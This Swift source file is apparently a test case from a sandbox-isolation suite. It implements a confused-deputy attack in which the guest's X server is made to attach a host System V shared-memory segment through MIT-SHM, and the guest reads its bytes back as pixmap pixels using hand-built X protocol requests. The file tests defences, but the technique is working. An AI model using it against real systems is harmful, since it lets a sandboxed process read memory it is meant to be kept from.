extension Attack {
    /// The server runs as the user, so it may attach segments that the guest, in another namespace, cannot see.
    static let useServerAsDeputy = Attack(
        "shm-through-x-server", .sharedMemory, .sharedMemory,
        "Has its own X server attach System V shared memory of the host, and reads it as a picture",
        control: .withoutSandbox
    ) { attempt throws(AttackFault) in
        let (wire, number) = (try attempt.ownDisplay(), try attempt.number("segment"))
        do throws(AttackFault) {
            attempt.take(try wire.pixels(ofSegment: UInt32(number), count: 64))
            attempt.note("MIT-SHM attach", 0)
        } catch .notApplicable(let reason) {
            throw .notApplicable(reason: reason)
        } catch {
            attempt.note("MIT-SHM attach: \(error)")
        }
    } host: { trial in
        let segment = try trial.segment()
        let report = try await trial.attempt(trial.own.merging(["segment": "\(segment.number)"]) { $1 })
        return trial.judge(report)
    }
}

extension XWire {
    /// The first bytes of a shared segment, through a pixmap of one byte for each pixel.
    fileprivate func pixels(ofSegment number: UInt32, count: UInt16) throws(AttackFault) -> ArraySlice<UInt8> {
        let code = try requestCode(of: "MIT-SHM")
        let (segment, pixmap, context) = (newResource(), newResource(), newResource())
        try send(code, 1, XWire.bytes(segment) + XWire.bytes(number) + [1, 0, 0, 0])
        try synchronise()
        let size = XWire.bytes(count) + XWire.bytes(UInt16(1))
        let origin = [UInt8](repeating: 0, count: 4)
        try send(53, 8, XWire.bytes(pixmap) + XWire.bytes(root) + size)
        try send(55, 0, XWire.bytes(context) + XWire.bytes(pixmap) + origin)
        let picture = size + origin + size + origin + [8, 2, 0, 0]
        try send(
            code, 3, XWire.bytes(pixmap) + XWire.bytes(context) + picture + XWire.bytes(segment) + origin)
        try synchronise()
        let reply = try ask(73, 2, XWire.bytes(pixmap) + origin + size + XWire.bytes(UInt32.max))
        return reply[32...].prefix(Int(count))
    }
}
